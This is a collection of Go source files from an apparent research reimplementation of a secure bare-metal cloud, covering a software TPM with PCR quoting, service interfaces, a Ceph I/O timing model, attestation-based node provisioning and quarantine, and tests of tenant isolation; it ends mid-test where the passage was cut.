	"sync"
	"time"
)

// NumPCRs is the number of platform configuration registers.
const NumPCRs = 24

// DigestSize is the size of the SHA-256 PCR bank digests.
const DigestSize = sha256.Size

// Latency constants used by the simulation layer, calibrated to typical
// discrete-TPM command times (the paper emulated R630-measured latencies
// on its TPM-less blades).
const (
	ExtendLatency = 10 * time.Millisecond
	QuoteLatency  = 750 * time.Millisecond
)

// Digest is a SHA-256 PCR digest.
type Digest = [DigestSize]byte

// Event is one entry of the TPM event log: which PCR was extended with
// what digest, and a human-readable description of the measured object.
type Event struct {
	PCR    int
	Digest Digest
	Desc   string
}

// TPM is a software TPM instance. All methods are safe for concurrent use.
type TPM struct {
	mu       sync.Mutex
	pcrs     [NumPCRs]Digest
	ek       *ecdh.PrivateKey
	aik      *ecdsa.PrivateKey
	log      []Event
	bootCnt  uint64
	quoteCnt uint64
}

// New creates a TPM with freshly generated EK and AIK.
func New() (*TPM, error) {
	ek, err := ecdh.P256().GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("tpm: generate EK: %w", err)
	}
	aik, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("tpm: generate AIK: %w", err)
	}
	return &TPM{ek: ek, aik: aik}, nil
}

// EKPublic returns the endorsement public key, the TPM's stable hardware
// identity. HIL publishes this per node so tenants can detect server
// spoofing.
func (t *TPM) EKPublic() *ecdh.PublicKey { return t.ek.PublicKey() }

// EKPublicBytes returns the uncompressed-point encoding of the EK public
// key, suitable for node metadata.
func (t *TPM) EKPublicBytes() []byte { return t.ek.PublicKey().Bytes() }

// AIKPublic returns the attestation identity public key used to verify
// quotes.
func (t *TPM) AIKPublic() *ecdsa.PublicKey { return &t.aik.PublicKey }

// Reset models a power cycle: PCRs and the event log clear; keys and the
// boot counter survive. Any code path that regains control of a node must
// go through Reset, which is what lets an attested LinuxBoot guarantee
// memory scrubbing to the next tenant.
func (t *TPM) Reset() {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.pcrs = [NumPCRs]Digest{}
	t.log = nil
	t.bootCnt++
}

// BootCount returns the number of Resets since manufacture.
func (t *TPM) BootCount() uint64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.bootCnt
}

// Extend folds digest into PCR index: pcr = SHA256(pcr || digest).
func (t *TPM) Extend(pcr int, digest Digest, desc string) error {
	if pcr < 0 || pcr >= NumPCRs {
		return fmt.Errorf("tpm: PCR index %d out of range", pcr)
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.pcrs[pcr] = extendOne(t.pcrs[pcr], digest)
	t.log = append(t.log, Event{PCR: pcr, Digest: digest, Desc: desc})
	return nil
}

// ExtendData hashes data with SHA-256 and extends the result into pcr.
func (t *TPM) ExtendData(pcr int, data []byte, desc string) error {
	return t.Extend(pcr, sha256.Sum256(data), desc)
}

func extendOne(cur, digest Digest) Digest {
	h := sha256.New()
	h.Write(cur[:])
	h.Write(digest[:])
	var out Digest
	copy(out[:], h.Sum(nil))
	return out
}

// PCRValue returns the current value of a PCR.
func (t *TPM) PCRValue(pcr int) (Digest, error) {
	if pcr < 0 || pcr >= NumPCRs {
		return Digest{}, fmt.Errorf("tpm: PCR index %d out of range", pcr)
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.pcrs[pcr], nil
}

// EventLog returns a copy of the event log since the last Reset.
func (t *TPM) EventLog() []Event {
	t.mu.Lock()
	defer t.mu.Unlock()
	return append([]Event(nil), t.log...)
}

// ReplayLog recomputes the PCR values implied by an event log. A verifier
// uses this to check that a quote's PCR values are explained by the
// claimed boot events.
func ReplayLog(events []Event) map[int]Digest {
	out := make(map[int]Digest)
	for _, ev := range events {
		out[ev.PCR] = extendOne(out[ev.PCR], ev.Digest)
	}
	return out
}

// Quote is a signed attestation of a set of PCR values, bound to a
// verifier-chosen nonce for freshness.
type Quote struct {
	Nonce     []byte
	PCRSel    []int
	PCRValues []Digest
	BootCount uint64
	Sig       []byte // ASN.1 ECDSA signature over quoteDigest
}

func quoteDigest(q *Quote) Digest {
	h := sha256.New()
	h.Write([]byte("TPM_QUOTE_V1"))
	var n [8]byte
	binary.BigEndian.PutUint64(n[:], uint64(len(q.Nonce)))
	h.Write(n[:])
	h.Write(q.Nonce)
	binary.BigEndian.PutUint64(n[:], q.BootCount)
	h.Write(n[:])
	for i, pcr := range q.PCRSel {
		binary.BigEndian.PutUint64(n[:], uint64(pcr))
		h.Write(n[:])
		h.Write(q.PCRValues[i][:])
	}
	var out Digest
	copy(out[:], h.Sum(nil))
	return out
}

// Quote produces an AIK-signed quote over the selected PCRs.
func (t *TPM) Quote(nonce []byte, sel []int) (*Quote, error) {
	t.mu.Lock()
	q := &Quote{
		Nonce:     append([]byte(nil), nonce...),
		PCRSel:    append([]int(nil), sel...),
		BootCount: t.bootCnt,
	}
	for _, pcr := range sel {
		if pcr < 0 || pcr >= NumPCRs {
			t.mu.Unlock()
			return nil, fmt.Errorf("tpm: PCR index %d out of range", pcr)
		}
		q.PCRValues = append(q.PCRValues, t.pcrs[pcr])
	}
	t.quoteCnt++
	t.mu.Unlock()

	d := quoteDigest(q)
	sig, err := ecdsa.SignASN1(rand.Reader, t.aik, d[:])
	if err != nil {
		return nil, fmt.Errorf("tpm: sign quote: %w", err)
	}
	q.Sig = sig
	return q, nil
}

// QuoteCount reports how many quotes this TPM has produced (test hook).
func (t *TPM) QuoteCount() uint64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.quoteCnt
}

// VerifyQuote checks a quote's signature against an AIK public key and
// that it binds the expected nonce.
func VerifyQuote(aik *ecdsa.PublicKey, q *Quote, wantNonce []byte) error {
	if q == nil {
		return errors.New("tpm: nil quote")
	}
	if len(q.PCRSel) != len(q.PCRValues) {
		return errors.New("tpm: malformed quote: selector/value length mismatch")
	}
	if string(q.Nonce) != string(wantNonce) {
		return errors.New("tpm: quote nonce mismatch (replay?)")
	}
	d := quoteDigest(q)
	if !ecdsa.VerifyASN1(aik, d[:], q.Sig) {
		return errors.New("tpm: quote signature invalid")
	}
	return nil
}

// readFull is rand.Reader with errors converted to panics; key and nonce
// generation failing means the host has no entropy, which is fatal.
func readFull(b []byte) {
	if _, err := io.ReadFull(rand.Reader, b); err != nil {
		panic("tpm: entropy source failed: " + err.Error())
	}
}
