package core

import (
	"context"

	"bolted/internal/bmi"
	"bolted/internal/hil"
	"bolted/internal/ima"
	"bolted/internal/keylime"
	"bolted/internal/tpm"
)

// This file defines the orchestrator's service plane as narrow
// interfaces — the wire contract of §4: the tenant-run orchestration
// engine drives the provider's HIL, BMI and attestation services over
// their network APIs, trusting nothing but that interface. Everything
// Cloud, Enclave and the batch provisioner call goes through these
// types, so the same pipeline runs against in-process services
// (*hil.Service, *bmi.Service, ...) or their HTTP clients against a
// remote boltedd, with identical semantics including sentinel errors.

// HILService is the Hardware Isolation Layer surface the orchestrator
// (and tenant tooling) depends on: project/node allocation, network
// isolation, the BMC power proxy, and provider-published node
// metadata. Satisfied by *hil.Service in process and *hil.Client over
// HTTP.
type HILService interface {
	CreateProject(name string) error
	DeleteProject(name string) error
	FreeNodes() ([]string, error)
	AllocateNode(ctx context.Context, project, node string) error
	AllocateAnyNode(ctx context.Context, project string) (string, error)
	TransferNode(ctx context.Context, from, node, to string) error
	FreeNode(ctx context.Context, project, node string) error
	CreateNetwork(ctx context.Context, project, name string) error
	DeleteNetwork(ctx context.Context, project, name string) error
	ConnectNode(ctx context.Context, project, node, network string) error
	DetachNode(ctx context.Context, project, node, network string) error
	ConnectServicePort(port, publicNet string) error
	PowerOn(ctx context.Context, project, node string) error
	PowerOff(ctx context.Context, project, node string) error
	PowerCycle(ctx context.Context, project, node string) error
	NodeMetadata(node string) (map[string]string, error)
	NodeOwner(node string) (string, error)
	NodePort(node string) (string, error)
}

// BMIService is the Bare Metal Imaging surface the orchestrator
// depends on: image CRUD, boot-info extraction, and per-node boot
// exports. Satisfied by *bmi.Service in process and *bmi.Client over
// HTTP (whose exports proxy block I/O across the wire).
type BMIService interface {
	CreateImage(ctx context.Context, name string, size int64) (*bmi.Image, error)
	CreateOSImage(name string, spec bmi.OSImageSpec) (*bmi.Image, error)
	CloneImage(ctx context.Context, src, dst string) (*bmi.Image, error)
	SnapshotImage(ctx context.Context, src, snap string) (*bmi.Image, error)
	DeleteImage(ctx context.Context, name string) error
	GetImage(name string) (*bmi.Image, error)
	ListImages() ([]string, error)
	ExtractBootInfo(ctx context.Context, image string) (*bmi.BootInfo, error)
	ExportForBoot(ctx context.Context, node, image string, cow bool) (*bmi.Export, error)
	Unexport(ctx context.Context, node, saveAs string) error
}

// NodeDriver covers the node-plane operations of the pipeline — the
// steps that in a real deployment happen on the node itself (firmware
// runtime boot, agent lifecycle, kexec, runtime IMA) or on provider
// infrastructure the orchestrator only reaches indirectly (service
// switch ports, fabric reachability). The in-process driver touches
// machines directly; the remote driver speaks boltedd's node-plane
// API.
type NodeDriver interface {
	// Boot brings up the airlocked node's attestation runtime after
	// power-on: UEFI machines chain-load the Heads runtime, then the
	// node's Keylime agent starts and enrols with the registrar. The
	// returned handle is what the tenant's verifier attests.
	Boot(ctx context.Context, node string) (keylime.AgentConn, error)
	// ExpectedBootPCRs returns the attestation whitelist for the node's
	// boot chain under the provider's canonical firmware.
	ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error)
	// KexecAttested kexecs the node into the kernel its agent unwrapped
	// from the attested payload; it fails while the key shares are
	// incomplete, i.e. before attestation released V.
	KexecAttested(ctx context.Context, node, kernelID string) error
	// Kexec boots an explicit kernel/initrd (profiles without
	// attestation, where the unauthenticated image path is trusted).
	Kexec(ctx context.Context, node, kernelID string, kernel, initrd []byte) error
	// StartIMA attaches a runtime measurement collector to the node's
	// agent for continuous attestation. The returned collector is
	// non-nil only for in-process drivers; remote collectors live on
	// the node and are read through the agent's IMA list.
	StartIMA(ctx context.Context, node string) (*ima.Collector, error)
	// StopAgent tears down the node's agent (and its remote API) after
	// the node leaves the enclave: the power-off that accompanies
	// release, rejection or abort kills the runtime the agent lived in,
	// so nothing of it may stay reachable. A node with no running agent
	// is a no-op.
	StopAgent(ctx context.Context, node string) error
	// AddServicePort creates a switch port for a tenant-deployed
	// service host (e.g. Charlie's own verifier).
	AddServicePort(ctx context.Context, name string) error
	// Reachable reports whether two switch ports share a network.
	Reachable(ctx context.Context, portA, portB string) error
}

// The in-process services must satisfy the wire contract, and the wire
// clients must satisfy the in-process contract — one pipeline, two
// transports.
var (
	_ HILService            = (*hil.Service)(nil)
	_ HILService            = (*hil.Client)(nil)
	_ BMIService            = (*bmi.Service)(nil)
	_ BMIService            = (*bmi.Client)(nil)
	_ keylime.RegistrarConn = (*keylime.Registrar)(nil)
	_ keylime.RegistrarConn = (*keylime.RegistrarClient)(nil)
)
