package ceph

import (
	"fmt"
	"time"

	"bolted/internal/sim"
)

// SimBackend charges discrete-event simulation time for cluster I/O.
// Each OSD host is a capacity-limited resource (its spindle count) with
// a seek + transfer service model, so concurrent booting nodes queue on
// a small pool exactly like the paper's 27-spindle deployment.
type SimBackend struct {
	cluster *Cluster
	osds    []*sim.Resource
	// SeekTime is the per-object positioning cost on a spindle.
	SeekTime time.Duration
	// SpindleBandwidthBps is the per-spindle streaming rate.
	SpindleBandwidthBps float64
}

// NewSimBackend builds the timing model: numOSDs hosts, spindlesPerOSD
// disks each. The defaults approximate the paper's pool: 27 spindles of
// ~150 MB/s nearline disks with ~8 ms positioning.
func NewSimBackend(s *sim.Sim, cluster *Cluster, spindlesPerOSD int) *SimBackend {
	b := &SimBackend{
		cluster:             cluster,
		SeekTime:            8 * time.Millisecond,
		SpindleBandwidthBps: 150e6 * 8,
	}
	for i := 0; i < cluster.NumOSDs(); i++ {
		b.osds = append(b.osds, s.NewResource("osd", spindlesPerOSD))
	}
	return b
}

// serviceTime is the spindle occupancy for one object-sized I/O.
func (b *SimBackend) serviceTime(bytes int64) time.Duration {
	return b.SeekTime + time.Duration(float64(bytes*8)/b.SpindleBandwidthBps*float64(time.Second))
}

// ChargeRead blocks the process for the time to read `bytes` of the
// named object from its primary OSD, queueing on the OSD's spindles.
func (b *SimBackend) ChargeRead(p *sim.Proc, object string, bytes int64) {
	osd := b.osds[b.cluster.PrimaryOSD(object)%len(b.osds)]
	p.Acquire(osd)
	p.Sleep(b.serviceTime(bytes))
	osd.Release()
}

// ChargeImageRead charges the cost of reading `bytes` spread over a boot
// image's objects: the dominant term in diskless provisioning. Reads hit
// distinct stripe objects, so they spread over OSDs but contend when
// many nodes boot the same golden image.
func (b *SimBackend) ChargeImageRead(p *sim.Proc, imagePrefix string, bytes int64) {
	objects := (bytes + ObjectSize - 1) / ObjectSize
	for i := int64(0); i < objects; i++ {
		n := int64(ObjectSize)
		if rem := bytes - i*ObjectSize; rem < n {
			n = rem
		}
		b.ChargeRead(p, fmt.Sprintf("%s.%08d", imagePrefix, i), n)
	}
}
