// Package core is Bolted's orchestration layer — the paper's primary
// contribution (§4): user-controlled scripts that compose the four
// independent services (HIL isolation, BMI provisioning, Keylime
// attestation, LinuxBoot firmware) into secure bare-metal enclaves,
// taking each server through the free → airlock → allocated/rejected
// life cycle of Figure 1, under a tenant-chosen security profile.
package core

import (
	"context"
	"fmt"
	"sync"

	"bolted/internal/bmi"
	"bolted/internal/ceph"
	"bolted/internal/firmware"
	"bolted/internal/hil"
	"bolted/internal/keylime"
	"bolted/internal/netsim"
	"bolted/internal/obs"
	"bolted/internal/tpm"
)

// FirmwareKind selects what is burned into node flash.
type FirmwareKind string

// Firmware kinds.
const (
	FirmwareUEFI      FirmwareKind = "uefi"      // stock vendor firmware; LinuxBoot runtime network-booted
	FirmwareLinuxBoot FirmwareKind = "linuxboot" // LinuxBoot burned into SPI flash
)

// Provider public networks every cloud exposes.
const (
	NetAttestation  = "attestation"
	NetProvisioning = "provisioning"
)

// Service host switch ports.
const (
	PortBMI       = "svc-bmi"
	PortRegistrar = "svc-registrar"
	PortVerifier  = "svc-verifier" // provider-deployed verifier (Bob)
)

// MetadataPlatformPCR is the HIL metadata key for the provider-published
// platform PCR whitelist entry (hex digest of PCRPlatform after clean
// boot).
const MetadataPlatformPCR = "platform_pcr0"

// MetadataPlatformGen is the HIL metadata key for the node's platform
// generation (needed to reproduce the vendor PEI/ACM measurement).
const MetadataPlatformGen = "platform_gen"

// MetadataFirmware is the HIL metadata key naming the canonical
// firmware the provider claims is installed.
const MetadataFirmware = "firmware"

// RejectedProject is the provider-owned quarantine project holding
// nodes that failed attestation.
const RejectedProject = "provider-rejected-pool"

// VerifyPublishedFirmware is the tenant-side deterministic-build check
// (§5): given the LinuxBoot source the tenant trusts (inspected or
// audited), rebuild the image, recompute the expected PCRPlatform
// value, and compare with the provider-published whitelist entry in the
// node's HIL metadata. A mismatch means the provider's published
// measurement does not correspond to the claimed source.
func VerifyPublishedFirmware(metadata map[string]string, sourceID string, source []byte) error {
	published, ok := metadata[MetadataPlatformPCR]
	if !ok {
		return fmt.Errorf("core: provider metadata has no %s entry", MetadataPlatformPCR)
	}
	gen, ok := metadata[MetadataPlatformGen]
	if !ok {
		return fmt.Errorf("core: provider metadata has no %s entry", MetadataPlatformGen)
	}
	img := firmware.BuildLinuxBoot(sourceID, source)
	fw := firmware.NewLinuxBoot(img, gen)
	want := fmt.Sprintf("%x", firmware.ExpectedPCRs(fw, nil)[firmware.PCRPlatform])
	if want != published {
		return fmt.Errorf("core: published platform PCR %s does not match source build %s", published[:16], want[:16])
	}
	return nil
}

// CloudConfig sizes a simulated cloud.
type CloudConfig struct {
	Nodes        int
	Firmware     FirmwareKind
	HeadsSource  []byte // LinuxBoot source tree (deterministic build input)
	OSDs         int
	Replication  int
	SpindlesPerO int
	PlatformGen  string
}

// DefaultConfig mirrors the paper's testbed: 16 M620 blades, a 3-host
// Ceph pool with 27 spindles (9 per host).
func DefaultConfig() CloudConfig {
	return CloudConfig{
		Nodes:        16,
		Firmware:     FirmwareLinuxBoot,
		HeadsSource:  []byte("heads source tree v1.0 (reproducible)"),
		OSDs:         3,
		Replication:  2,
		SpindlesPerO: 9,
		PlatformGen:  "m620",
	}
}

// Cloud is a Bolted deployment as the tenant's orchestration engine
// sees it: the service plane (HIL, BMI, attestation registrar, node
// driver) behind narrow interfaces. NewCloud wires a fully in-process
// deployment including the physical machines; NewRemoteCloud builds
// the same structure from wire clients against a remote boltedd, and
// the enclave pipeline cannot tell the difference.
type Cloud struct {
	Config    CloudConfig
	HIL       HILService
	BMI       BMIService
	Registrar keylime.RegistrarConn
	Driver    NodeDriver

	// Provider-side infrastructure, populated only for in-process
	// clouds; nil when the services live behind a remote boltedd.
	Fabric *netsim.Fabric
	Ceph   *ceph.Cluster
	Heads  firmware.LinuxBootImage

	// Concrete in-process services, kept so a server (boltedd) can put
	// REST handlers in front of the deployment it hosts.
	hilLocal *hil.Service
	bmiLocal *bmi.Service
	regLocal *keylime.Registrar

	// canonicalFW is the firmware the provider *claims* is installed —
	// the basis of the published whitelist. Attestation exists exactly
	// because flash contents may diverge from this.
	canonicalFW firmware.Firmware
	machines    map[string]*firmware.Machine

	// sched arbitrates the cloud's airlock slots across every enclave:
	// the attestation pipeline is a provider-wide resource, so its
	// arbitration (weighted-fair, foreground-over-background) is
	// cloud-scoped, not per-enclave.
	sched *Scheduler

	// metrics holds the pre-resolved observability instruments
	// (metrics.go). Always non-nil; all instruments nil (no-op) until
	// SetMetrics attaches a registry.
	metrics *cloudMetrics

	// resilience is the installed retry/breaker layer (breaker.go);
	// nil until EnableResilience wraps the backends.
	resilience *cloudResilience

	rejMu    sync.Mutex
	rejected map[string]string // node -> rejection reason
}

// SetMetrics attaches an observability registry: every subsystem built
// from this cloud afterwards (scheduler grants immediately; pools,
// enclaves and managers at their creation) records into it. Call it
// right after NewCloud/NewRemoteCloud, before serving traffic —
// instruments are resolved once here, not re-checked per observation.
// A nil registry returns the cloud to the uninstrumented default.
func (c *Cloud) SetMetrics(reg *obs.Registry) {
	c.metrics = newCloudMetrics(reg)
	c.sched.setMetrics(c.metrics.sched())
}

// Metrics returns the attached registry (nil when uninstrumented).
func (c *Cloud) Metrics() *obs.Registry { return c.metrics.registry }

// LocalHIL returns the in-process HIL service (nil for remote clouds).
// Server wiring only; the orchestrator goes through c.HIL.
func (c *Cloud) LocalHIL() *hil.Service { return c.hilLocal }

// LocalBMI returns the in-process BMI service (nil for remote clouds).
func (c *Cloud) LocalBMI() *bmi.Service { return c.bmiLocal }

// LocalRegistrar returns the in-process registrar (nil for remote
// clouds).
func (c *Cloud) LocalRegistrar() *keylime.Registrar { return c.regLocal }

// Remote reports whether this cloud's service plane lives behind a
// network API rather than in this process.
func (c *Cloud) Remote() bool { return c.hilLocal == nil }

// RemoteServices bundles the wire clients a remote Cloud is built
// from. Every field is required.
type RemoteServices struct {
	HIL       HILService
	BMI       BMIService
	Registrar keylime.RegistrarConn
	Driver    NodeDriver
}

// NewRemoteCloud builds a Cloud whose entire service plane is driven
// through the given (typically HTTP-backed) interfaces — the paper's
// actual deployment shape, where the tenant's orchestration engine
// trusts nothing but the services' network APIs. The config describes
// the remote deployment (node count, firmware kind) and is advisory:
// the provider's services remain the source of truth.
func NewRemoteCloud(cfg CloudConfig, svc RemoteServices) (*Cloud, error) {
	if svc.HIL == nil || svc.BMI == nil || svc.Registrar == nil || svc.Driver == nil {
		return nil, fmt.Errorf("core: remote cloud needs HIL, BMI, registrar and node driver")
	}
	return &Cloud{
		Config:    cfg,
		HIL:       svc.HIL,
		BMI:       svc.BMI,
		Registrar: svc.Registrar,
		Driver:    svc.Driver,
		sched:     NewScheduler(DefaultAirlocks),
		metrics:   newCloudMetrics(nil),
		rejected:  make(map[string]string),
	}, nil
}

// NewCloud constructs and wires a cloud: fabric ports for every node
// and service host, public attestation/provisioning networks, machines
// with the configured flash firmware, and HIL node registration with
// the provider-published TPM EK and platform PCR metadata.
func NewCloud(cfg CloudConfig) (*Cloud, error) {
	if cfg.Nodes < 1 {
		return nil, fmt.Errorf("core: need at least one node")
	}
	fabric, err := netsim.NewFabric(100, 999)
	if err != nil {
		return nil, err
	}
	cluster, err := ceph.NewCluster(cfg.OSDs, cfg.Replication)
	if err != nil {
		return nil, err
	}
	hilSvc := hil.New(fabric)
	bmiSvc := bmi.New(cluster)
	regSvc := keylime.NewRegistrar()
	c := &Cloud{
		Config:    cfg,
		Fabric:    fabric,
		HIL:       hilSvc,
		BMI:       bmiSvc,
		Ceph:      cluster,
		Registrar: regSvc,
		Heads:     firmware.BuildLinuxBoot("heads-v1.0", cfg.HeadsSource),
		hilLocal:  hilSvc,
		bmiLocal:  bmiSvc,
		regLocal:  regSvc,
		machines:  make(map[string]*firmware.Machine),
		sched:     NewScheduler(DefaultAirlocks),
		metrics:   newCloudMetrics(nil),
		rejected:  make(map[string]string),
	}
	c.Driver = newLocalDriver(c)

	for _, p := range []string{PortBMI, PortRegistrar, PortVerifier} {
		if _, err := fabric.AddPort(p); err != nil {
			return nil, err
		}
	}
	// Both service networks are private VLANs: every node needs the
	// attestation and provisioning services, but nodes must never see
	// each other through them.
	for _, net := range []string{NetAttestation, NetProvisioning} {
		if err := hilSvc.CreatePublicNetwork(net, true); err != nil {
			return nil, err
		}
	}
	// The rejected pool is a provider-owned project: nodes that fail
	// attestation park here, off every network, until an operator
	// investigates. They must never silently return to the free pool.
	if err := hilSvc.CreateProject(RejectedProject); err != nil {
		return nil, err
	}
	// Provider service placement: BMI on provisioning, registrar and the
	// provider verifier on attestation.
	if err := hilSvc.ConnectServicePort(PortBMI, NetProvisioning); err != nil {
		return nil, err
	}
	for _, p := range []string{PortRegistrar, PortVerifier} {
		if err := hilSvc.ConnectServicePort(p, NetAttestation); err != nil {
			return nil, err
		}
	}

	switch cfg.Firmware {
	case FirmwareLinuxBoot:
		c.canonicalFW = firmware.NewLinuxBoot(c.Heads, cfg.PlatformGen)
	case FirmwareUEFI:
		c.canonicalFW = firmware.NewUEFI("dell", "2.9.1", cfg.PlatformGen)
	default:
		return nil, fmt.Errorf("core: unknown firmware kind %q", cfg.Firmware)
	}

	for i := 0; i < cfg.Nodes; i++ {
		name := fmt.Sprintf("node%02d", i)
		port := "port-" + name
		if _, err := fabric.AddPort(port); err != nil {
			return nil, err
		}
		m, err := firmware.NewMachine(name, port, c.canonicalFW)
		if err != nil {
			return nil, err
		}
		c.machines[name] = m
		md := map[string]string{
			keylime.EKMetadataKey: keylime.EncodeEK(m.TPM().EKPublic()),
			MetadataPlatformPCR:   fmt.Sprintf("%x", c.platformWhitelistDigest(c.canonicalFW)),
			MetadataPlatformGen:   cfg.PlatformGen,
			MetadataFirmware:      c.canonicalFW.Name(),
		}
		if err := hilSvc.RegisterNode(name, port, m, md); err != nil {
			return nil, err
		}
	}
	return c, nil
}

// platformWhitelistDigest is the expected PCRPlatform value for a clean
// boot of the node's flash firmware — the one-time provider-published
// measurement of §4.1.
func (c *Cloud) platformWhitelistDigest(fw firmware.Firmware) tpm.Digest {
	return firmware.ExpectedPCRs(fw, nil)[firmware.PCRPlatform]
}

// Scheduler returns the cloud-wide airlock scheduler.
func (c *Cloud) Scheduler() *Scheduler { return c.sched }

// Machine returns a physical machine by name (test and example hook; a
// real tenant never touches machines directly).
func (c *Cloud) Machine(name string) (*firmware.Machine, error) {
	m, ok := c.machines[name]
	if !ok {
		return nil, fmt.Errorf("core: unknown machine %q", name)
	}
	return m, nil
}

// ExpectedBootPCRs computes the attestation whitelist for a node under
// this cloud's boot chain: flash-LinuxBoot machines boot straight from
// flash; UEFI machines network-boot the Heads runtime via iPXE. The
// whitelist derives from the provider's *canonical* firmware — never
// from a machine's actual flash contents, which is precisely what
// attestation does not trust.
func (c *Cloud) ExpectedBootPCRs(node string) (map[int][]tpm.Digest, error) {
	if _, err := c.Machine(node); err != nil {
		return nil, err
	}
	var exp map[int]tpm.Digest
	if c.Config.Firmware == FirmwareUEFI {
		exp = firmware.ExpectedPCRs(c.canonicalFW, &c.Heads)
	} else {
		exp = firmware.ExpectedPCRs(c.canonicalFW, nil)
	}
	out := make(map[int][]tpm.Digest, len(exp))
	for pcr, d := range exp {
		out[pcr] = []tpm.Digest{d}
	}
	return out, nil
}

// MarkRejected quarantines a node that failed a lifecycle phase:
// detached from every network, moved from the owning project straight
// into the provider's rejected project — never through the free pool,
// where a concurrent batch could claim the tainted node — and recorded
// for forensics. Quarantine must proceed even for a cancelled batch,
// so it never takes a caller context.
func (c *Cloud) MarkRejected(project, node, reason string) {
	c.rejMu.Lock()
	c.rejected[node] = reason
	c.rejMu.Unlock()
	ctx := context.Background()
	if err := c.HIL.TransferNode(ctx, project, node, RejectedProject); err != nil {
		// Not owned by the project (rejection raced a release): reserve
		// it from the free pool instead.
		_ = c.HIL.AllocateNode(ctx, RejectedProject, node)
		if c.Fabric != nil {
			if port, err := c.HIL.NodePort(node); err == nil {
				_ = c.Fabric.DetachAll(port)
			}
		}
	}
}

// ReclaimRejected is the provider half of the operator's
// scrub-and-return path: a repaired rejected-pool node is powered off
// (nothing from the tainted tenancy survives into the next allocation)
// and freed from the rejected project back into the free pool. Returns
// the recorded rejection reason for the journal.
func (c *Cloud) ReclaimRejected(ctx context.Context, node string) (string, error) {
	c.rejMu.Lock()
	reason, ok := c.rejected[node]
	c.rejMu.Unlock()
	if !ok {
		return "", fmt.Errorf("%w: node %q is not in the rejected pool", ErrNotFound, node)
	}
	// Best-effort: rejected nodes are usually already off (MarkRejected
	// detached and powered them down), and a power fault must not strand
	// an otherwise repaired node.
	_ = c.HIL.PowerOff(ctx, RejectedProject, node)
	if err := c.HIL.FreeNode(ctx, RejectedProject, node); err != nil {
		return "", err
	}
	c.rejMu.Lock()
	delete(c.rejected, node)
	c.rejMu.Unlock()
	return reason, nil
}

// Rejected returns the rejected pool: node -> reason.
func (c *Cloud) Rejected() map[string]string {
	c.rejMu.Lock()
	defer c.rejMu.Unlock()
	out := make(map[string]string, len(c.rejected))
	for k, v := range c.rejected {
		out[k] = v
	}
	return out
}
