package hil

import (
	"errors"
	"net/http/httptest"
	"testing"
	"testing/quick"

	"bolted/internal/netsim"
)

// fakeBMC records power operations.
type fakeBMC struct {
	on     bool
	cycles int
}

func (b *fakeBMC) PowerOn() error    { b.on = true; return nil }
func (b *fakeBMC) PowerOff() error   { b.on = false; return nil }
func (b *fakeBMC) PowerCycle() error { b.on = true; b.cycles++; return nil }

func newHIL(t testing.TB, nodes int) (*Service, *netsim.Fabric, []*fakeBMC) {
	t.Helper()
	fabric, err := netsim.NewFabric(100, 199)
	if err != nil {
		t.Fatal(err)
	}
	s := New(fabric)
	var bmcs []*fakeBMC
	for i := 0; i < nodes; i++ {
		name := string(rune('a' + i))
		if _, err := fabric.AddPort("port-" + name); err != nil {
			t.Fatal(err)
		}
		b := &fakeBMC{}
		bmcs = append(bmcs, b)
		if err := s.RegisterNode("node-"+name, "port-"+name, b, map[string]string{"gen": "m620"}); err != nil {
			t.Fatal(err)
		}
	}
	return s, fabric, bmcs
}

func TestAllocationLifecycle(t *testing.T) {
	s, _, _ := newHIL(t, 3)
	if err := s.CreateProject("charlie"); err != nil {
		t.Fatal(err)
	}
	if got := len(s.FreeNodes()); got != 3 {
		t.Fatalf("free = %d, want 3", got)
	}
	if err := s.AllocateNode("charlie", "node-a"); err != nil {
		t.Fatal(err)
	}
	owner, _ := s.NodeOwner("node-a")
	if owner != "charlie" {
		t.Fatalf("owner = %q", owner)
	}
	// Double allocation fails.
	s.CreateProject("bob")
	if err := s.AllocateNode("bob", "node-a"); !errors.Is(err, ErrInUse) {
		t.Fatalf("double alloc: %v", err)
	}
	// Any-node allocation takes a free one.
	n, err := s.AllocateAnyNode("bob")
	if err != nil || n == "node-a" {
		t.Fatalf("AllocateAnyNode = %q, %v", n, err)
	}
	if err := s.FreeNode("charlie", "node-a"); err != nil {
		t.Fatal(err)
	}
	if owner, _ := s.NodeOwner("node-a"); owner != "" {
		t.Fatal("freed node still owned")
	}
}

func TestAuthorizationEnforced(t *testing.T) {
	s, _, _ := newHIL(t, 2)
	s.CreateProject("alice")
	s.CreateProject("mallory")
	s.AllocateNode("alice", "node-a")
	s.CreateNetwork("alice", "net")

	if err := s.ConnectNode("mallory", "node-a", "net"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project connect: %v", err)
	}
	if err := s.PowerCycle("mallory", "node-a"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project power: %v", err)
	}
	if err := s.FreeNode("mallory", "node-a"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project free: %v", err)
	}
}

func TestNetworkingIsolation(t *testing.T) {
	s, fabric, _ := newHIL(t, 3)
	s.CreateProject("a")
	s.CreateProject("b")
	s.AllocateNode("a", "node-a")
	s.AllocateNode("a", "node-b")
	s.AllocateNode("b", "node-c")
	s.CreateNetwork("a", "enclave")
	s.CreateNetwork("b", "enclave") // same name, different project: distinct VLANs
	if err := s.ConnectNode("a", "node-a", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode("a", "node-b", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode("b", "node-c", "enclave"); err != nil {
		t.Fatal(err)
	}
	if !fabric.Reachable("port-a", "port-b") {
		t.Fatal("same-enclave nodes isolated")
	}
	if fabric.Reachable("port-a", "port-c") {
		t.Fatal("cross-tenant nodes reachable despite same network name")
	}
}

func TestFreeNodeQuarantinesAndPowersOff(t *testing.T) {
	s, fabric, bmcs := newHIL(t, 2)
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	s.CreateNetwork("t", "n")
	s.ConnectNode("t", "node-a", "n")
	bmcs[0].on = true
	if err := s.FreeNode("t", "node-a"); err != nil {
